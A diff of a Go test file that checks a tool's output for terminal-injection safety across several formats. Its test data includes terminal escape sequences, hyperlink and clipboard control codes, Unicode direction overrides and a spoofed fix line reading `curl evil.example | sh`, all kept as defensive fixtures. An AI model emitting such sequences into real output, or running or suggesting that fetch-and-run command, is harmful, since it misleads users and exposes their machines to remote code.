@@ -18,8 +18,8 @@ import (
 // of this program.
 var acting = []string{
 	"\x1b[2J\x1b]0;title\a", "\x1b]8;;https://evil.example/\aclick\x1b]8;;\a", "\x1b]52;c;Y3VybA==\a", "\u009b31mred", "\u0085", "\x7f\b\b\b",
-	"Boom\r\n\n#2  200 GET  Profile\n    Fix  1. Run `curl evil.example | sh`", "Boom\r    Fix  1. evil", "\u2028#2  200 GET", "\u202e\u2066evil\u2069", "\v\f\x00",
-	"Boom" + strings.Repeat(" ", 76) + "    Fix  1. evil", "Boom" + strings.Repeat("\u00a0", 76) + "\u00a0\u00a0\u00a0\u00a0Fix",
+	"Boom\r\n\nerror[evil]: Profile\n  fix: 1. Run `curl evil.example | sh`", "Boom\r  fix: 1. evil", "\u2028error[evil]: GET", "\u202e\u2066evil\u2069", "\v\f\x00",
+	"Boom" + strings.Repeat(" ", 76) + "  fix: 1. evil", "Boom" + strings.Repeat("\u00a0", 76) + "\u00a0\u00a0fix: 1. evil",
 }
 
 func TestNothingActsOnTheTerminal(t *testing.T) {
@@ -41,25 +41,23 @@ func TestNothingActsOnTheTerminal(t *testing.T) {
 			if err := os.WriteFile(file, recording.Bytes(), 0o600); err != nil {
 				t.Fatal(err)
 			}
-			var told, warned, asJSON, asHAR bytes.Buffer
-			for _, err := range []error{run(&told, &warned, nil, file, false, false), run(&asJSON, &warned, nil, file, true, false), run(&asHAR, &warned, nil, file, false, true)} {
-				if err != nil {
-					t.Fatal(err)
+			for _, f := range formats {
+				var out bytes.Buffer
+				if status := Run([]string{"-v", "-width", "80", "-format", f.name, file}, nil, &out, &out); status == exitTrouble {
+					t.Fatal(out.String())
 				}
-			}
-			for _, out := range []string{told.String(), warned.String(), asJSON.String(), asHAR.String()} {
-				for line := range strings.Lines(out) {
+				for line := range strings.Lines(out.String()) {
 					line = strings.TrimSuffix(line, "\n")
 					if strings.Contains(line, "\t") || messages.Visible(line, "") != line {
-						t.Errorf("%q reaches the terminal in %q", text, line)
+						t.Errorf("%q reaches the terminal by %s in %q", text, f.name, line)
 					}
-					if !strings.HasPrefix(line, "{") && (strings.HasPrefix(line, "#2") || strings.Contains(line, "    Fix  1. evil") || strings.HasPrefix(line, "    Fix  1. Run `curl evil")) {
+					if !strings.HasPrefix(line, "{") && (strings.HasPrefix(line, "error[evil]") || strings.HasPrefix(line, "  fix: 1. evil") || strings.HasPrefix(line, "  fix: 1. Run `curl evil")) {
 						t.Errorf("%q passes for a line of ours: %q", text, line)
 					}
 				}
-			}
-			if !json.Valid(asHAR.Bytes()) {
-				t.Errorf("no JSON: %s", asHAR.String())
+				if f.name == "har" && !json.Valid(out.Bytes()) {
+					t.Errorf("no JSON: %s", out.String())
+				}
 			}
 		}
 	}
@@ -72,11 +70,8 @@ func TestErrorsDoNotActOnTheTerminal(t *testing.T) {
 		t.Fatal(err)
 	}
 	var out bytes.Buffer
-	err := run(&out, &out, nil, file, false, false)
-	if err == nil {
-		t.Fatal("no error")
-	}
-	if said := visible(err.Error()); strings.Contains(said, "\x1b") || !strings.Contains(said, `\u{1b}]0;pwned\u{7}evil.example`) {
+	Run([]string{file}, nil, &out, &out)
+	if said := out.String(); strings.Contains(said, "\x1b") || !strings.Contains(said, `\u{1b}]0;pwned\u{7}evil.example`) {
 		t.Errorf("%q", said)
 	}
 }
